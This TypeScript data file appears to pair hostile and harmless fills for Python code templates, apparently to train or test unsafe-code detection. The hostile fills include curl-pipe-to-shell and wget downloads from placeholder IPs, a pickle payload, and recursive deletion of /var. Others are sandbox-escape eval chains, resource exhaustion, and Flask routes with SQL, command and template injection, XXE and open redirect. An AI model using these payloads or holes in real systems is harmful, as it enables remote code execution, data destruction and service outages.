import type { Pair } from './pair.ts';

/** Code that is text, is written to be run later, or wears the machine out; servers that believe whoever asks. */
export const PYTHON_CODE: readonly Pair[] = [
  // Writing what will run later.
  [
    'hex-payload',
    `
import binascii

program = '§0'
with open("§1", "wb") as handle:
    handle.write(binascii.hexlify(program.encode()))`,
    ['import subprocess; subprocess.run(["rm", "-rf", "/var"])', '/usr/lib/cache.py'],
    ['a short note about the weather', 'note.hex'],
  ],
  [
    'compressed-payload',
    `
import base64
import zlib

program = """§0"""
packed = base64.b85encode(zlib.compress(program.encode()))
with open("§1", "w") as handle:
    handle.write("import base64, zlib\\n§2(zlib.decompress(base64.b85decode(%r)))" % packed)`,
    ['import os\nos.system("wget http://203.0.113.4/x")', '/usr/local/lib/start.py', 'exec'],
    ['just a sentence', 'start.txt', 'print'],
  ],
  [
    'base32-payload',
    `
import base64

text = '§0'
open("§1", "wb").write(base64.b32encode(text.encode("utf-8")))`,
    ['__import__("os").remove("/etc/hosts")', '/opt/data.b32'],
    ['the list of guests', 'guests.b32'],
  ],
  [
    'dropped-script',
    `
import os
import stat

path = "§0"
with open(path, "w") as script:
    script.write("#!/bin/sh\\n§1\\n")
os.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)`,
    ['/usr/local/bin/update-check', 'curl -s http://203.0.113.9/x | sh'],
    ['run.sh', 'echo hello'],
  ],
  // Code as text.
  [
    'calculator',
    `
def calculate(text):
    return eval(text)

for line in ["1 + 2", "§0"]:
    print(calculate(line))`,
    ["__import__('subprocess').getoutput('ls /home')"],
    ['3 * 4'],
  ],
  [
    'calculator-open',
    `
class Calculator:
    def run(self, expression):
        try:
            return eval(expression, {"__builtins__": __builtins__}, {})
        except Exception as problem:
            return str(problem)

print(Calculator().run("§0"))`,
    ["open('/etc/hostname').read()"],
    ['2 ** 10'],
  ],
  [
    'escape-chain',
    `
expression = "§0"
print(eval(expression, {"__builtins__": {}}))`,
    ["[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]('id', shell=True)"],
    ['[n for n in (1, 2, 3)][0]'],
  ],
  [
    'escape-chain-plain',
    `
kinds = §0
for kind in kinds:
    print(kind.__name__)`,
    ['object.__subclasses__()[0].__init__.__globals__["__builtins__"]["__import__"]("os").listdir("/")'],
    ['[int, str, float]'],
  ],
  [
    'template-escape',
    `
from jinja2 import Template

print(Template("§0").render(name="Ada"))`,
    ["{{ ''.__class__.__mro__[1].__subclasses__() }}"],
    ['Hello {{ name }}'],
  ],
  [
    'exec-listing',
    `
code = "§0"
exec(compile(code, "<text>", "exec"))`,
    ["import os\\nprint(os.popen('ls -la /root').read())"],
    ['print(1 + 1)'],
  ],
  // Resources, processes and the machine.
  [
    'kill-by-name',
    `
import psutil

for process in psutil.process_iter(["name"]):
    if process.info["name"] == "§0":
        §1`,
    ['sshd', 'process.kill()'],
    ['sshd', 'print(process.pid)'],
  ],
  [
    'hosts-append',
    `
entry = "§0"
with open("§1", "a") as handle:
    handle.write(entry + "\\n")`,
    ['203.0.113.20 mail.example.com', '/etc/hosts'],
    ['remember the milk', 'list.txt'],
  ],
  [
    'memory-eater',
    `
kept = []
while §0:
    kept.append(bytearray(1024 * 1024))`,
    ['True'],
    ['len(kept) < 3'],
  ],
  [
    'busy-loop',
    `
import multiprocessing

def work():
    while §0:
        pass

for _ in range(multiprocessing.cpu_count()):
    multiprocessing.Process(target=work).start()`,
    ['True'],
    ['False'],
  ],
  [
    'disk-filler',
    `
with open("big.bin", "wb") as handle:
    while §0:
        handle.write(b"x" * 1048576)`,
    ['True'],
    ['handle.tell() < 1000'],
  ],
  [
    'pip-from-address',
    `
import subprocess
import sys

subprocess.check_call([sys.executable, "-m", "§0", "§1"])`,
    ['pip", "install', 'http://203.0.113.5/pkg/tool-1.0.tar.gz'],
    ['compileall', 'src'],
  ],
  // Servers and programs that believe whoever asks.
  [
    'route-statement',
    `
import sqlite3
from flask import Flask, request

app = Flask(__name__)

@app.route("/people")
def people():
    name = request.args.get("name", "")
    cursor = sqlite3.connect("people.db").cursor()
    cursor.execute(§0)
    return str(cursor.fetchall())`,
    ['f"SELECT * FROM people WHERE name = \'{name}\'"'],
    ['"SELECT * FROM people WHERE name = ?", (name,)'],
  ],
  [
    'route-template',
    `
from flask import Flask, render_template_string, request

app = Flask(__name__)

@app.route("/hello")
def hello():
    return render_template_string(§0)`,
    ['"<p>Hello " + request.args["name"] + "</p>"'],
    ['"<p>Hello {{ name }}</p>", name=request.args["name"]'],
  ],
  [
    'route-redirect',
    `
from flask import Flask, redirect, request, url_for

app = Flask(__name__)

@app.route("/next")
def go():
    return redirect(§0)`,
    ['request.args["to"]'],
    ['url_for("go", page=request.args["to"])'],
  ],
  [
    'route-document',
    `
from flask import Flask, request
from lxml import etree

app = Flask(__name__)

@app.route("/import", methods=["POST"])
def take():
    parser = etree.XMLParser(resolve_entities=§0)
    return etree.fromstring(§1, parser).tag`,
    ['True', 'request.data'],
    ['False', 'b"<list/>"'],
  ],
  [
    'route-command',
    `
import subprocess
from flask import Flask, request

app = Flask(__name__)

@app.route("/size")
def size():
    return subprocess.run(§0, capture_output=True, text=True).stdout`,
    ['"du -sh " + request.args["folder"], shell=True'],
    ['["du", "-sh", "public"]'],
  ],
  [
    'prompt-statement',
    `
import sqlite3

name = input("name: ")
base = sqlite3.connect("shop.db")
print(base.execute(§0).fetchall())`,
    ['"SELECT * FROM orders WHERE customer = \'" + name + "\'"'],
    ['"SELECT * FROM orders WHERE customer = ?", (name,)'],
  ],
  [
    'pickle-payload',
    `
import os
import pickle

class Note:
    def __reduce__(self):
        return §0

with open("note.bin", "wb") as handle:
    handle.write(pickle.dumps(Note()))`,
    ['(os.system, ("curl -s http://203.0.113.3/x | sh",))'],
    ['(Note, ())'],
  ],
  [
    'library-of-c',
    `
import ctypes

library = ctypes.CDLL(None)
§0`,
    ['library.system(b"id > /tmp/who")'],
    ['print(ctypes.sizeof(ctypes.c_int))'],
  ],
];
